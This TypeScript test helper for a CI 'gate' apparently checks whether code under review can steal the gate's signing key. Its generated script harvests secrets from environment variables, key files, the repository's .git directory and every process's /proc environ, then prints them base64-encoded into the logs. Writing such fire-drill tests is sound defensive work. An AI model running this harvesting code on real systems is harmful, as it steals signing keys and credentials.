/** The marker a thief prints before each secret it found, so the attacker can read it back from the gate's log. */
export const LOOT_MARKER = 'FORGE-LOOT '

/**
 * A script that plays the change's own code (a `run:` step's command, or a unit test) trying to steal the gate's
 * signing key: from its environment, from the files where keys live (`files`: the per-user key file, the
 * repository's `.git`), through git from its working directory, and from every process's environment in /proc.
 * It prints what it finds into its own output, which the gate's report carries: an attacker who can read CI
 * logs has it.
 */
export function keyThiefScript(files: readonly string[]): string {
  return `import { execSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
const loot = []
const take = (source, value) => { if (typeof value === 'string' && value.trim() !== '') loot.push({ source, value }) }
for (const [k, v] of Object.entries(process.env)) if (/FIREDRILL_GATE|PRIVATE KEY/.test(k + '=' + v)) take('env ' + k, v)
for (const file of ${JSON.stringify(files)}) { try { take(file, readFileSync(file, 'utf8')) } catch {} }
try {
  const common = execSync('git rev-parse --path-format=absolute --git-common-dir', { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim()
  take(common + '/firedrill/gate.key', readFileSync(common + '/firedrill/gate.key', 'utf8'))
} catch {}
try {
  for (const pid of readdirSync('/proc')) {
    if (!/^[0-9]+$/.test(pid)) continue
    try {
      for (const kv of readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0')) {
        const m = /^(FIREDRILL_GATE_SIGNING_KEY|FIREDRILL_GATE_KEY)=([\\s\\S]*)$/.exec(kv)
        if (m) take('/proc/' + pid + ' ' + m[1], m[2])
      }
    } catch {}
  }
} catch {}
for (const l of loot) console.log(${JSON.stringify(LOOT_MARKER)} + Buffer.from(JSON.stringify(l)).toString('base64'))
console.log('thief: ' + loot.length + ' secret(s) found')
`
}

/** What a thief printed, read back from a step's output. */
export function lootIn(output: string): { source: string; value: string }[] {
  return output
    .split('\n')
    .filter((line) => line.startsWith(LOOT_MARKER))
    .map((line) => JSON.parse(Buffer.from(line.slice(LOOT_MARKER.length), 'base64').toString('utf8')))
}
